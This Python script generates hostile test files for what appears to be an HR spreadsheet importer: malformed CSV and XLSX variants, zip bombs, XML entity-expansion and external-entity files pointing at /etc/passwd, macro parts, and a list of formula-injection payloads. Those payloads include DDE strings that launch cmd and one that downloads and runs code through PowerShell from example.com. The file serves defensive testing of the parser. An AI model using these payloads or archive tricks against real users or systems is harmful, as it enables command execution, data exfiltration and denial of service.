"""Make the hostile files: `python -m tests.hostile.make FOLDER`. The same bytes every time.

Each is what somebody once loaded, or would like to: answers.json has what is to be said about it.
"""

import csv
import io
import struct
import sys
import zlib
from pathlib import Path

from tests.hostile.books import (
    DAY,
    MOMENT,
    TIME,
    Cell,
    book,
    books,
    error,
    formula,
    number,
    parts_of,
    sheet_xml,
    zipped,
)

HEADER = ["Código", "Nombres", "Apellidos", "Cédula", "Unidad", "Fecha de ingreso"]
ANA = ["E1", "Ana", "Peña", "V-12000001", "Ventas", "15/01/2024"]
LUIS = ["E2", "Luis", "Núñez", "V-12000002", "Ventas", "16/01/2024"]
EVA = ["E3", "Eva", "Ibáñez", "V-12000003", "Ventas", "17/01/2024"]
PEOPLE = [HEADER, ANA, LUIS, EVA]
ROLL = ["Código", "Asistió"]

# What a spreadsheet would run, or hand to another program, if it took the text for a formula.
PAYLOADS = [
    "=1+1", "=SUM(A1:A9)", "=A1", "==1+1", "=-1+1", "+1+1", "+A1", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*2",
    "@A1", "=cmd|' /C calc'!A0", "=cmd|'/c powershell IEX(wget example.com/x)'!A1", "+cmd|' /C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!A",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=HYPERLINK(\"http://example.com/?x=\"&A1;\"Clic\")", "=HYPERLINK(\"file:///etc/passwd\",\"x\")",
    "=IMPORTXML(CONCAT(\"http://example.com/\";A1);\"//a\")", "=IMPORTDATA(\"http://example.com/x.csv\")",
    "=IMPORTRANGE(\"x\",\"A1\")", "=IMAGE(\"http://example.com/x.png\")", "=WEBSERVICE(\"http://example.com/\")",
    "=FILTERXML(\"<a/>\",\"//a\")", "=INDIRECT(\"A1\")", "=CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0)",
    "=EXEC(\"calc\")", "=REGISTER(\"kernel32\",\"WinExec\",\"JCJ\")", "=FORMULA.FILL(\"x\",A1)",
    "\t=1+1", "\r=1+1", "\n=1+1", "\t@A1",
    "'=1+1", "''=1+1", "'+1", "=\"00123\"&\"\"", "-", "=",
]  # fmt: skip


def csv_text(rows, delimiter=",", end="\r\n"):
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter, lineterminator=end).writerows(rows)
    return buffer.getvalue()


def people(*rows, delimiter=","):
    return csv_text([HEADER, *rows], delimiter).encode()


def hired(*dates):
    """People hired on these days."""
    return [[f"E{at}", "Ana", f"Peña {at}", f"V-{12_000_000 + at}", "Ventas", day] for at, day in enumerate(dates, 1)]


FILES = {}


def file(name):
    def keep(make):
        FILES[name] = make
        return make

    return keep


def plain(name, make):
    FILES[name] = make


# --- Encodings ------------------------------------------------------------------------------------------------------
for encoding, name in (
    ("utf-8", "utf8.csv"),
    ("utf-8-sig", "utf8_with_bom.csv"),
    ("cp1252", "cp1252.csv"),
    ("utf-16", "utf16_with_bom.csv"),
    ("utf-16-le", "utf16_le_without_bom.csv"),
    ("utf-16-be", "utf16_be_without_bom.csv"),
    ("utf-32", "utf32.csv"),
):
    plain(name, lambda encoding=encoding: csv_text(PEOPLE).encode(encoding))
plain("latin1.csv", lambda: csv_text(PEOPLE).encode("latin-1").replace(b"Ana", b"Ana\x81"))
plain(
    "mixed_encodings.csv",
    lambda: b"".join(
        line.encode("cp1252" if "Luis" in line else "utf-8") for line in csv_text(PEOPLE).splitlines(keepends=True)
    ),
)
plain("nul_in_a_cell.csv", lambda: csv_text(PEOPLE).encode().replace(b"Luis", b"Lu\0is"))
plain("nul_at_the_end.csv", lambda: csv_text(PEOPLE).encode() + b"\0" * 512)
plain("cut_within_a_letter.csv", lambda: csv_text([*PEOPLE, ["E4", "Tomás", "Muñ"]]).encode()[:-3])
plain("two_boms.csv", lambda: b"\xef\xbb\xbf" * 2 + csv_text(PEOPLE).encode())
plain(
    "invisible_characters.csv",
    lambda: people(
        ["\u200bE1", "A\u00adna\u202e", "\u2066Pe\u0301rez\u2069", "V-12000001", "\xa0Ventas\xa0", "15/01/2024\u200e"]
    ),
)
plain("emoji.csv", lambda: people(["E1", "Ana 😀", "Peña 𝒳", *ANA[3:]]))

# --- Separators, quotes, lines --------------------------------------------------------------------------------------
plain("semicolon.csv", lambda: people(["E1", "Ana, Luisa", *ANA[2:]], delimiter=";"))
plain("tab.csv", lambda: csv_text(PEOPLE, "\t").encode())
plain("pipe.csv", lambda: csv_text(PEOPLE, "|").encode())
plain("separator_line.csv", lambda: b"sep=;\r\n" + csv_text(PEOPLE, ";").encode())
plain("separator_line_of_pipe.csv", lambda: b"SEP=|\r\n" + csv_text(PEOPLE, "|").encode())
plain("one_column.csv", lambda: "Código\r\nE1\r\nE2\r\n".encode())
plain("another_separator_in_one_row.csv", lambda: csv_text([HEADER, ANA]).encode() + csv_text([LUIS], ";").encode())
plain(
    "separator_within_a_value.csv",
    lambda: people(ANA) + b"E2,Luis,N\xc3\xba\xc3\xb1ez, hijo,V-12000002,Ventas,16/01/2024\r\n",
)
plain(
    "quoted_newlines.csv",
    lambda: people(["E1", "Ana\nMaría", *ANA[2:]], ["E2", "Luis\r\n\r\nJosé", *LUIS[2:-1], "soon"]),
)
plain("unclosed_quote.csv", lambda: people(ANA) + b'E2,"Luis,Gil,V-12000002,Ventas,16/01/2024\r\nE3,Eva\r\n')
plain("text_behind_a_quote.csv", lambda: people(ANA) + b'E2,"Luis" hijo,Gil,V-12000002,Ventas,16/01/2024\r\n')
plain("quotes_within_a_cell.csv", lambda: people(ANA) + b'E2,Luis "Lucho" A.,Gil,V-12000002,Ventas,16/01/2024\r\n')
plain("doubled_quotes.csv", lambda: people(["E1", 'Ana "Nené"', *ANA[2:]]))
plain("a_cell_of_200000_letters.csv", lambda: people(["E1", "x" * 200_000, *ANA[2:]]))
plain("a_cell_of_40000_letters.csv", lambda: people(["E1", "x" * 40_000, *ANA[2:]]))
plain("line_ends_of_old_macs.csv", lambda: csv_text(PEOPLE, end="\r").encode())
plain(
    "mixed_line_ends.csv",
    lambda: (csv_text([HEADER, ANA], end="\n") + csv_text([LUIS]) + csv_text([EVA], end="\n")).encode(),
)
plain("no_line_end_at_the_end.csv", lambda: csv_text(PEOPLE).encode().rstrip())

# --- Shape ----------------------------------------------------------------------------------------------------------
plain("empty.csv", lambda: b"")
plain("blank.csv", lambda: b" \r\n\t\r\n,,,\r\n")
plain("empty.xlsx", lambda: book([]))
plain("no_sheets.xlsx", lambda: zipped(parts_of({})))
plain("header_only.csv", lambda: people())
plain("header_only.xlsx", lambda: book([HEADER]))
plain("short_rows.csv", lambda: people(ANA[:3], LUIS))
plain("a_million_blank_rows.csv", lambda: people(ANA) + b",,,,,\r\n" * 1_000_000 + csv_text([LUIS]).encode())


@file("a_million_blank_rows.xlsx")
def _():
    xml = sheet_xml([HEADER, ANA, LUIS])
    before, behind = xml.split("</sheetData>")
    blank = "".join(f'<row r="{at}" ht="15"/>' for at in range(4, 1_000_004))
    return zipped(parts_of({"Hoja1": f"{before}{blank}</sheetData>{behind}"}))


plain("16384_columns.csv", lambda: csv_text([[*HEADER, *(f"X{at}" for at in range(16_378))], ANA]).encode())
plain("16384_columns.xlsx", lambda: book([[*HEADER, *(f"X{at}" for at in range(16_378))], ANA]))
plain("16384_blank_columns.csv", lambda: csv_text([HEADER, [*ANA, *[""] * 16_378], LUIS]).encode())
plain("a_cell_in_the_last_corner.xlsx", lambda: corner('<dimension ref="A1:XFD1048576"/>'))
plain("a_cell_in_the_last_corner_denied.xlsx", lambda: corner('<dimension ref="A1:F2"/>'))


def corner(dimension):
    xml = sheet_xml([HEADER, ANA]).replace("<sheetData>", f"{dimension}<sheetData>")
    far = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
    return zipped(parts_of({"Hoja1": xml.replace("</sheetData>", far)}))


@file("a_cell_far_away_in_a_large_sheet.xlsx")
def _():
    """Large enough to be read while it is looked through; the reader would take 600 MB for its blank cells."""
    rows = [HEADER, *([f"E{at}", f"Ana {at}", f"Peña {at}", f"V-{at}", "Ventas", "15/01/2024"] for at in range(75_000))]
    far = '<row r="80000"><c r="MV80000"><v>1</v></c></row></sheetData>'
    return zipped(parts_of({"Hoja1": sheet_xml(rows).replace("</sheetData>", far)}))


plain("duplicate_headers.csv", lambda: csv_text([[*HEADER, "Apellido"], [*ANA, "Gil"]]).encode())
plain("duplicate_unknown_headers.csv", lambda: csv_text([[*HEADER, "Nota", "Nota"], [*ANA, "a", "b"]]).encode())
plain("missing_header.csv", lambda: csv_text([[*HEADER, ""], [*ANA, "Cajera"]]).encode())
plain("no_known_header.csv", lambda: b"Talla,Color\r\n42,azul\r\n")
plain("close_headers.csv", lambda: csv_text([[*HEADER[:-1], "Fecha de ingrso"], ANA]).encode())
plain("title_above.csv", lambda: csv_text([["Nómina de enero"], [], *PEOPLE]).encode())
plain("header_again_below.csv", lambda: csv_text([*PEOPLE[:2], HEADER, LUIS]).encode())
plain("blank_rows_between.csv", lambda: csv_text([HEADER, ANA, [], [""] * 6, LUIS]).encode())
plain("total_at_the_foot.csv", lambda: people(ANA, LUIS, ["Total", "2"]))
plain("totals_at_the_foot.xlsx", lambda: book([*PEOPLE, [], ["", "", "Subtotal", 3], ["TOTAL GENERAL", "", "", 3]]))
plain("somebody_called_total.csv", lambda: people(["E1", "Ana", "Total", *ANA[3:]]))
plain(
    "script_and_sql.csv", lambda: people(["E1", "<script>alert(1)</script>", "'; DROP TABLE hr_employee;--", *ANA[3:]])
)

# --- Dates ----------------------------------------------------------------------------------------------------------
plain("february_29_2025.csv", lambda: people(*hired("28/02/2025", "29/02/2025", "29/02/2024")))
plain(
    "days_from_1904.xlsx",
    lambda: book([HEADER, [*ANA[:-1], number(43844, DAY)]], properties='<workbookPr date1904="1"/>'),
)
plain("serials_from_1904.xlsx", lambda: book([HEADER, [*ANA[:-1], 43844]], properties='<workbookPr date1904="1"/>'))
plain("serials.xlsx", lambda: book([HEADER, [*ANA[:-1], 45306], [*LUIS[:-1], "45307"]]))
plain("serials.csv", lambda: people(*hired("45306", "15/01/2024", "45306.5")))
plain("day_cells.xlsx", lambda: book([HEADER, [*ANA[:-1], number(45306, DAY)], [*LUIS[:-1], number(60, DAY)]]))
plain("times.csv", lambda: people(*hired("15/01/2024 00:00", "15/01/2024 08:30", "2024-01-15T00:00:00", "08:30")))
MOMENTS = (number(45306.354, MOMENT), number(0.354, TIME), number(45306, MOMENT))
plain("times.xlsx", lambda: book([HEADER, *([*row[:-1], when] for row, when in zip(PEOPLE[1:], MOMENTS, strict=True))]))
plain("ambiguous_dates.csv", lambda: people(*hired("01/02/2024", "03/04/2024")))
plain("ambiguous_dates_of_equal_numbers.csv", lambda: people(*hired("01/01/2024", "12/12/2023")))
plain("month_first.csv", lambda: people(*hired("01/15/2024", "01/02/2024")))
plain("day_first.csv", lambda: people(*hired("15/01/2024", "01/02/2024")))
plain("both_orders.csv", lambda: people(*hired("15/01/2024", "01/15/2024")))
plain("one_slip_among_many.csv", lambda: people(*hired(*(f"{day}/01/2024" for day in range(13, 23)), "01/15/2024")))
plain("years_of_two_digits.csv", lambda: people(*hired("15/01/24", "01/02/99")))
plain("months_in_words.csv", lambda: people(*hired("15-ene-2024", "15 de enero de 2024", "15 Jan 2024", "15-xyz-2024")))
plain("compact_dates.csv", lambda: people(*hired("20240115", "20241315")))
plain("years_out_of_range.csv", lambda: people(*hired("15/01/1899", "15/01/2201", "15/01/0024")))
plain("years_first.csv", lambda: people(*hired("2024-01-02", "2024/01/02", "2024.1.2")))

# --- Ids and numbers ------------------------------------------------------------------------------------------------
plain("leading_zeros.csv", lambda: people(["007", "Ana", "Peña", "012000001", *ANA[4:]]))
plain("leading_zeros_forced.csv", lambda: people(['="007"', "Ana", "Peña", '="12000001"', *ANA[4:]]))
plain("numbers_cut_short.csv", lambda: people(["1.23E+09", *ANA[1:3], "1,2E+07", *ANA[4:]], ["1E5", *LUIS[1:]]))
plain("numbers_of_18_digits.xlsx", lambda: book([HEADER, [123456789012345678, *ANA[1:]]]))
plain("numbers_and_texts.xlsx", lambda: book([HEADER, ["007", *ANA[1:]], [8, *LUIS[1:3], 12000002, *LUIS[4:]]]))
plain(
    "numbers_with_fraction.csv",
    lambda: people(["E1", "Ana", "Peña", "12000001.0", *ANA[4:]], ["E2", "Luis", "Gil", "12000002.5", *LUIS[4:]]),
)
plain("true_and_false.xlsx", lambda: book([HEADER, ["E1", Cell('t="b"', "<v>1</v>"), *ANA[2:]]]))

# --- Errors and formulas --------------------------------------------------------------------------------------------
plain(
    "errors.csv", lambda: people(["E1", "#¡VALOR!", *ANA[2:]], ["E2", "Luis", "#N/A", *LUIS[3:]], ["#REF!", *EVA[1:]])
)
plain("errors.xlsx", lambda: book([HEADER, ["E1", error("#VALUE!"), *ANA[2:]], [*LUIS[:4], error("#N/A"), LUIS[5]]]))
plain("too_narrow.csv", lambda: people([*ANA[:-1], "########"], ["E2", "#1 Luis", *LUIS[2:]]))
plain(
    "formulas_with_results.xlsx",
    lambda: book(
        [
            HEADER,
            [formula('"E"&1', "E1", 't="str"'), *ANA[1:]],
            [*LUIS[:-1], Cell(f's="{DAY}"', "<f>F2+1</f><v>45307</v>")],
        ]
    ),
)
plain(
    "formulas_without_results.xlsx",
    lambda: book([HEADER, ["E1", formula("B9"), *ANA[2:]], ["E2", "Luis", Cell("", "<f>C9</f><v></v>"), *LUIS[3:]]]),
)
plain(
    "formulas_of_a_group.xlsx",
    lambda: book(
        [
            HEADER,
            ["E1", Cell("", '<f t="shared" ref="B2:B3" si="0">B9</f>'), *ANA[2:]],
            ["E2", Cell("", '<f t="shared" si="0"/>'), *LUIS[2:]],
        ]
    ),
)
plain("formulas_that_run_programs.xlsx", lambda: book([HEADER, ["E1", formula("cmd|' /C calc'!A0"), *ANA[2:]]]))
plain(
    "formula_payloads.csv",
    lambda: csv_text([["Código", "Título"], *([f"P{at}", text] for at, text in enumerate(PAYLOADS, 1))]).encode(),
)
plain(
    "formula_payloads.xlsx",
    lambda: book([["Código", "Título"], *([f"P{at}", text] for at, text in enumerate(PAYLOADS, 1))]),
)

# --- Sheets ---------------------------------------------------------------------------------------------------------
plain(
    "merged_cells.xlsx",
    lambda: book(
        [["Nómina"], HEADER, ANA, [*LUIS[:4], "", LUIS[5]], EVA],
        behind='<mergeCells count="2"><mergeCell ref="A1:F1"/><mergeCell ref="E3:E4"/></mergeCells>',
    ),
)
plain(
    "hidden_rows_and_columns.xlsx",
    lambda: book(PEOPLE, columns='<cols><col min="4" max="4" hidden="1"/></cols>', row_attributes={3: 'hidden="1"'}),
)
plain(
    "hidden_sheet.xlsx",
    lambda: zipped(parts_of({"Visible": sheet_xml([["Notas"]]), "Datos": sheet_xml(PEOPLE)}, hidden=["Datos"])),
)
plain("two_sheets_of_data.xlsx", lambda: books({"Enero": [HEADER, ANA], "Febrero": [HEADER, LUIS]}))
plain("notes_in_front.xlsx", lambda: books({"Léeme": [["Llene la otra hoja"]], "Datos": PEOPLE}))
plain(
    "names_with_a_prefix.xlsx",
    lambda: zipped(parts_of({"Hoja1": prefixed(sheet_xml([HEADER, ["E1", formula("B9"), *ANA[2:]]]))})),
)


def prefixed(xml):
    """As some programs write it: every element with a prefix."""
    start, _, rest = xml.partition("<worksheet")
    rest = ("<worksheet" + rest).replace("</", "\0").replace("<", "<x:").replace("\0", "</x:")
    return start + rest.replace("xmlns=", "xmlns:x=")


# --- Archives -------------------------------------------------------------------------------------------------------
MEGABYTE = b" " * 1024 * 1024


def with_part(name, data):
    return zipped(parts_of({"Hoja1": sheet_xml(PEOPLE)}) | {name: data})


plain("bomb.xlsx", lambda: with_part("xl/sharedStrings.xml", (MEGABYTE, 450)))
plain("bomb_of_moderate_size.xlsx", lambda: with_part("xl/sharedStrings.xml", (MEGABYTE, 60)))
plain(
    "bomb_that_denies_its_size.xlsx",
    lambda: lying(with_part("xl/sharedStrings.xml", (MEGABYTE, 60)), b"xl/sharedStrings.xml", 10),
)
plain(
    "bomb_of_many_parts.xlsx",
    lambda: zipped(parts_of({"Hoja1": sheet_xml(PEOPLE)}) | {f"xl/media/{at}.png": b"x" for at in range(2000)}),
)
plain("bomb_of_one_part_named_often.xlsx", lambda: overlapping())


def lying(content, name, size):
    """The archive, whose directory gives a wrong size for the part."""
    changed = bytearray(content)
    at = content.rindex(name) - 46 + 24
    changed[at : at + 4] = struct.pack("<I", size)
    return bytes(changed)


def overlapping():
    """Three hundred names in the directory for the same bytes."""
    content = with_part("xl/worksheets/a.xml", b"<a/>" * 200_000)
    at = content.index(b"PK\x01\x02")
    directory, end = content[at : content.rindex(b"PK\x05\x06")], bytearray(content[content.rindex(b"PK\x05\x06") :])
    last = directory[directory.rindex(b"PK\x01\x02") :]
    count = directory.count(b"PK\x01\x02")
    copies = b"".join(
        last.replace(b"xl/worksheets/a.xml", f"xl/worksheets/{at:03}.x".encode().ljust(19, b"l")) for at in range(300)
    )
    struct.pack_into("<HHI", end, 8, count + 300, count + 300, len(directory) + len(copies))
    return content[:at] + directory + copies + bytes(end)


plain("nested_archive.xlsx", lambda: with_part("xl/embeddings/inner.zip", zipped({"a.csv": "x"})))
plain("nested_archive_in_disguise.xlsx", lambda: with_part("xl/media/image1.png", zipped({"a.csv": "x"})))
plain(
    "nested_old_workbook.xlsx",
    lambda: with_part("xl/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
)
plain("a_folder_of_files.zip", lambda: zipped({"people.csv": csv_text(PEOPLE)}))
plain("cut_off.xlsx", lambda: book(PEOPLE)[:-200])
plain("zeroed_in_the_middle.xlsx", lambda: zeroed(book(PEOPLE * 50)))
plain(
    "a_part_is_missing.xlsx",
    lambda: zipped({name: xml for name, xml in parts_of({"Hoja1": sheet_xml(PEOPLE)}).items() if "sheet1" not in name}),
)
plain("broken_xml.xlsx", lambda: zipped(parts_of({"Hoja1": sheet_xml(PEOPLE).replace("</sheetData>", "")[:-40]})))
plain("locked_archive.xlsx", lambda: locked(book(PEOPLE)))


def zeroed(content):
    at = content.index(b"xl/worksheets/sheet1.xml") + 60
    return content[:at] + bytes(40) + content[at + 40 :]


def locked(content):
    """Every part marked as encrypted."""
    changed = bytearray(content)
    at = content.find(b"PK\x01\x02")
    while at >= 0:
        changed[at + 8] |= 1
        at = content.find(b"PK\x01\x02", at + 4)
    return bytes(changed)


LAUGHS = '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>'
OTHER_FILE = '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'


def with_doctype(doctype, encoding="utf-8"):
    xml = sheet_xml([HEADER, ["E1", "&f;", *ANA[2:]]]).replace("&amp;", "&")
    head, _, rest = xml.partition("\n")
    return zipped(parts_of({"Hoja1": ""}) | {"xl/worksheets/sheet1.xml": f"{head}\n{doctype}{rest}".encode(encoding)})


plain("entities_without_end.xlsx", lambda: with_doctype(LAUGHS))
plain("entity_of_another_file.xlsx", lambda: with_doctype(OTHER_FILE))
plain("entity_of_another_file_in_utf16.xlsx", lambda: with_doctype(OTHER_FILE, "utf-16"))
plain("entity_behind_a_long_comment.xlsx", lambda: with_doctype(f"<!--{'x' * 100_000}-->{OTHER_FILE}"))
plain("doctype_in_small_letters.xlsx", lambda: with_doctype(OTHER_FILE.replace("DOCTYPE", "doctype")))
plain("macros.xlsm", lambda: with_part("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0 a program"))
plain(
    "macros_by_type_alone.xlsx",
    lambda: zipped(
        {
            name: xml.replace(
                "openxmlformats-officedocument.spreadsheetml.sheet.main", "ms-excel.sheet.macroEnabled.main"
            )
            for name, xml in parts_of({"Hoja1": sheet_xml(PEOPLE)}).items()
        }
    ),
)
plain("macros_of_excel_4.xlsx", lambda: with_part("xl/macrosheets/sheet1.xml", sheet_xml([])))
plain("external_link.xlsx", lambda: with_part("xl/externalLinks/externalLink1.xml", "<externalLink/>"))
plain("external_data.xlsx", lambda: with_part("xl/connections.xml", "<connections/>"))
plain(
    "external_template.xlsx",
    lambda: with_part("xl/worksheets/_rels/sheet1.xml.rels", related("attachedTemplate", "http://example.com/x.xltm")),
)
plain(
    "mail_addresses_as_links.xlsx",
    lambda: with_part("xl/worksheets/_rels/sheet1.xml.rels", related("hyperlink", "mailto:ana@example.com")),
)


def related(kind, target):
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}" '
        'TargetMode="External"/></Relationships>'
    )


# --- Other types ----------------------------------------------------------------------------------------------------
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
PNG = b"\x89PNG\r\n\x1a\n" + b"\0\0\0\rIHDR" + struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0) + zlib.compress(b"\0\0\0\0")
plain("old_workbook.xls", lambda: OLE + "Workbook".encode("utf-16-le") + bytes(100))
plain("password.xlsx", lambda: OLE + "EncryptedPackage".encode("utf-16-le") + bytes(100))
plain("old_document.xls", lambda: OLE + "WordDocument".encode("utf-16-le") + bytes(100))
plain("a_picture_called.csv", lambda: PNG)
plain("a_photograph_called.xlsx", lambda: b"\xff\xd8\xff\xe0\0\x10JFIF\0" + bytes(100))
plain("a_photograph_of_a_phone.csv", lambda: b"\0\0\0\x18ftypheic" + bytes(100))
plain("a_pdf_called.csv", lambda: b"%PDF-1.7\n1 0 obj\n")
plain("a_web_page_called.xls", lambda: b"<html><body><table><tr><td>C\xc3\xb3digo</td></tr></table></body></html>")
plain(
    "xml_of_2003.xls", lambda: b'<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>'
)
plain("xml.csv", lambda: b'<?xml version="1.0"?><people><person code="E1"/></people>')
plain("json.csv", lambda: b'[{"code": "E1"}]')
plain("a_document_called.xlsx", lambda: zipped({"[Content_Types].xml": "<Types/>", "word/document.xml": "<w/>"}))
plain("binary_workbook.xlsb", lambda: zipped({"[Content_Types].xml": "<Types/>", "xl/workbook.bin": b"\x83\x01"}))
plain(
    "open_document.ods",
    lambda: zipped({"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": "<o/>"}),
)
plain("compressed.csv", lambda: b"\x1f\x8b\x08\0\0\0\0\0\0\x03" + bytes(20))
plain("a_program_called.csv", lambda: b"MZ\x90\0\x03\0\0\0" + bytes(100))
plain("a_database_called.csv", lambda: b"SQLite format 3\0" + bytes(100))
plain("text_that_begins_like_a_program.csv", lambda: "MZ,Código\r\nx,E1\r\n".encode())

# --- Names and attendance -------------------------------------------------------------------------------------------
WHOLE = ["Código", "Nombre", "Cédula", "Unidad", "Fecha de ingreso"]
plain(
    "whole_names.csv",
    lambda: csv_text([WHOLE, ["E1", "Peña, Ana", *ANA[3:]], ["E2", "Núñez, Luis", *LUIS[3:]]]).encode(),
)
plain(
    "last_names_first.csv",
    lambda: csv_text(
        [
            [WHOLE[0], "Apellidos y Nombres", *WHOLE[2:]],
            ["E1", "Peña Gil Ana María", *ANA[3:]],
            ["E2", "Núñez, Luis", *LUIS[3:]],
            ["E3", "Eva", *EVA[3:]],
        ]
    ).encode(),
)
plain(
    "attendance_matrix.csv",
    lambda: csv_text(
        [
            ["Código", "Nombre", "Sesión 1", "Sesión 2"],
            ["E1", "Ana", "X", ""],
            ["E2", "Luis", "✓", "no"],
            ["E3", "Eva", "", ""],
        ]
    ).encode(),
)
plain(
    "attendance_matrix_of_days.xlsx",
    lambda: book(
        [
            ["Código", number(46154, DAY), number(46155, DAY), number(46170, DAY)],
            ["E1", "X", "X", ""],
            ["E2", "", "no", "X"],
        ]
    ),
)
plain(
    "attendance_matrix_of_odd_words.csv",
    lambda: csv_text([["Código", "1", "2"], ["E1", "7.5", "8"], ["E2", "9", "10"]]).encode(),
)
plain("attendance_list.csv", lambda: csv_text([ROLL, ["E1", "x"], ["E2", "no"], ["E3", "quizás"]]).encode())


def main(folder):
    folder.mkdir(parents=True, exist_ok=True)
    for name, make in FILES.items():
        (folder / name).write_bytes(make())
    print(f"{len(FILES)} files in {folder}")  # noqa: T201  # what somebody at the shell wants to know


if __name__ == "__main__":
    main(Path(sys.argv[1]))
